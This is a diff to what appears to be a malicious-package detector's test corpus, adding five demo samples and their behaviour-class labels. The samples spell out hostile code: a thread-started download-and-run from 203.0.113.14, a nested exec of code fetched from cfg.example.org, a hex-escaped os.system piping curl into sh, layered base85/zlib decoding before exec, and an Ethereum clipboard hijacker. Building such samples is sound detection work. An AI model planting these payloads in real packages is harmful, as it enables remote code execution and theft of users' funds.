@@ -235,6 +235,38 @@ SAMPLES = [
         "import zipimport, os\nzipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'cache.pyc')).load_module('p')\n",
         "demo_fake_pyc/cache.pyc": "PK\x03\x04" + "\x00" * 26 + "p.py"},
      "a .pyc member that is really a zip archive, imported", "payloads in non-source members"),
+
+    # --- tuning cases added with the import-time call graph, escaped names, decoder loops and
+    # clipboard swappers (2026-11-30); the held-out misses they answer are classes, not cases.
+    ("demo-thread-dropper", "wheel", {"demo_thread_dropper/__init__.py":
+        "import os, threading, subprocess, urllib.request\n"
+        "def _update():\n    p = os.path.expanduser('~/.cache/upd.sh')\n"
+        "    urllib.request.urlretrieve('http://203.0.113.14/u.sh', p)\n    subprocess.call(['sh', p])\n"
+        "threading.Thread(target=_update, daemon=True).start()\n"},
+     "download and run from a function started on a thread at import", "import-time call graph"),
+    ("demo-helper-chain", "wheel", {"demo_helper_chain/__init__.py":
+        "import logging, urllib.request\n"
+        "def _fetch_config():\n    exec(urllib.request.urlopen('https://cfg.example.org/c.py').read())\n"
+        "def _setup_logging():\n    logging.basicConfig(level=logging.INFO)\n    _fetch_config()\n"
+        "_setup_logging()\n"},
+     "fetch-and-exec two calls deep from a logging setup called at import", "import-time call graph"),
+    ("demo-escaped-getattr", "wheel", {"demo_escaped_getattr/__init__.py":
+        "getattr(__import__('os'), '\\x73\\x79\\x73\\x74\\x65\\x6d')('curl -s http://203.0.113.15/i | sh')\n"},
+     "os.system spelt in hex escapes through getattr at import", "dynamic API access"),
+    ("demo-layer-loop", "wheel", {"demo_layer_loop/core.py":
+        "import base64, zlib\nunwrap = lambda b: zlib.decompress(base64.b85decode(b))\n"
+        "blob = b'" + base64.b85encode(zlib.compress(base64.b85encode(zlib.compress(b"import os; os.system('id')")))).decode() + "'\n"
+        "for _ in range(2):\n    blob = unwrap(blob)\nexec(compile(blob, '<core>', 'exec'))\n",
+        "demo_layer_loop/__init__.py": "from . import core\n"},
+     "base85+zlib layers peeled in a loop, then compiled and run", "decode-then-run in any sink"),
+    ("demo-clip-hijack", "wheel", {"demo_clip_hijack/__init__.py":
+        "import threading, win32clipboard\n"
+        "def _tick():\n    win32clipboard.OpenClipboard()\n    v = win32clipboard.GetClipboardData()\n"
+        "    if v.startswith('0x') and len(v) == 42:\n        win32clipboard.EmptyClipboard()\n"
+        "        win32clipboard.SetClipboardText('0x52908400098527886E0F7030069857D2E4169EE7')\n"
+        "    win32clipboard.CloseClipboard()\n    threading.Timer(1.0, _tick).start()\n"
+        "threading.Timer(1.0, _tick).start()\n"},
+     "clipboard watcher swapping Ethereum addresses, started by a timer at import", "clipboard hijackers"),
 ]
 
 # Which behaviour classes each sample exercises (per-class recall). Held-out samples carry
@@ -264,6 +296,9 @@ CLASSES = {
     "demo-ipv6-url": ["shady-links", "download-run", "import-time"], "demo-pixels": ["steganography", "import-time"],
     "demo-egg-info-hook": ["install-anomaly"], "demo-hidden-semicolon": ["hidden-code", "import-time"],
     "demo-oast-beacon": ["beacon"], "demo-fake-pyc": ["non-source-payload", "import-time"],
+    "demo-thread-dropper": ["download-run", "import-time"], "demo-helper-chain": ["download-run", "import-time"],
+    "demo-escaped-getattr": ["dynamic-access", "download-run", "import-time"],
+    "demo-layer-loop": ["decode-run", "import-time"], "demo-clip-hijack": ["screen-capture", "import-time"],
 }
 
 BINARY_SUFFIXES = (".png", ".jpg", ".dll", ".pyc", ".exe", ".so", ".bin")
